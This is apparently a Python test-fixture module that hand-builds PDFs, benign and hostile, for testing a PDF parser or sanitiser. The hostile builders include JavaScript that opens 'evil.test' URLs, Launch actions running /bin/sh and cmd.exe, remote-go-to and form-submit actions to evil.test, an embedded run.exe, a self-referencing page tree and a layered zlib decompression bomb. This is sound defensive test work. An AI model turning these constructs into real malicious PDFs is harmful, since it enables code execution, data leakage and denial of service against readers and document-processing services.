"""PDF files written by hand, harmless and hostile."""

from __future__ import annotations

import zlib

PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
    b"/Resources << /Font << /F1 5 0 R >> >> %b >>"
)
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf_file(objects: dict[int, bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects, the first of which is its catalogue, with a right table of references."""
    content = b"%PDF-1.7\n"
    places = {}
    for number, written in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%b\nendobj\n" % (number, written)
    size = max(objects) + 1
    at = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        free = number not in places
        content += b"%010d 00000 %b \n" % (places.get(number, 0), b"f" if free else b"n")
    return content + b"trailer\n<< /Size %d /Root 1 0 R %b >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, at)


def stream(content: bytes, fields: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), fields, content)


def shown_text(words: bytes) -> bytes:
    """The content of a page with one line of text."""
    return stream(b"BT /F1 24 Tf 40 100 Td (%b) Tj ET" % words)


def one_page(
    words: bytes = b"Low tide",
    *,
    catalogue: bytes = b"",
    page: bytes = b"",
    trailer: bytes = b"",
    more: dict[int, bytes] | None = None,
) -> bytes:
    """A PDF of one page; further fields of its catalogue and page, further objects from number 6."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %b >>" % catalogue,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % page,
        4: shown_text(words),
        5: FONT,
    }
    return pdf_file(objects | (more or {}), trailer=trailer)


ALERT = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.test/js'\\);app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
REMOTE = b"<< /S /GoToR /F << /FS /URL /F (http://evil.test/remote.pdf) >> /D [0 /Fit] >>"
SUBMIT = b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.test/form) >> >>"


def link(action: bytes) -> bytes:
    """An annotation over the whole page with an action."""
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A %b >>" % action


def acting() -> bytes:
    """A PDF with an action of every kind, at every place that has one, and an embedded file."""
    return one_page(
        catalogue=b"/OpenAction %b /AA << /WC %b >> /Names << /JavaScript << /Names [(a) %b] >> "
        b"/EmbeddedFiles << /Names [(run.exe) 7 0 R] >> >> /AcroForm << /Fields [8 0 R] /XFA 6 0 R >>"
        % (ALERT, ALERT, ALERT),
        page=b"/AA << /O %b >> /Annots [%b %b %b 8 0 R 9 0 R %b]"
        % (
            LAUNCH,
            link(LAUNCH),
            link(REMOTE),
            link(b"<< /S /URI /URI (https://example.org/) /Next %b >>" % ALERT),
            link(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
        ),
        more={
            6: stream(b"<xdp:xdp><script>app.alert(2)</script></xdp:xdp>"),
            7: b"<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>",
            8: b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A %b /AA << /D %b >> >>"
            % (SUBMIT, ALERT),
            9: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>",
        },
    )


def many_pages(count: int) -> bytes:
    """A PDF of so many pages that share their content."""
    kids = b" ".join(b"%d 0 R" % number for number in range(6, 6 + count))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
        4: shown_text(b"Ebb"),
        5: FONT,
    }
    return pdf_file(objects | dict.fromkeys(range(6, 6 + count), PAGE % b""))


def of_itself() -> bytes:
    """A PDF whose tree of pages contains itself."""
    return pdf_file(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>",
        }
    )


def bomb(size: int, *, times: int = 1) -> bytes:
    """A PDF whose page, packed so many times over, unpacks to so many bytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(size // 2**20)) + packer.flush()
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: PAGE % b"",
        4: stream(packed, b"/Filter [%b]" % b" ".join([b"/FlateDecode"] * times)),
        5: FONT,
    }
    return pdf_file(objects)


def deep(levels: int) -> bytes:
    """A PDF with arrays in arrays."""
    return one_page(catalogue=b"/Deep " + b"[" * levels + b"]" * levels)


def encrypted() -> bytes:
    """A PDF that says that it is encrypted."""
    says = b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O (%b) /U (%b) >> /ID [(a) (a)]"
    return one_page(trailer=says % (b"o" * 32, b"u" * 32))
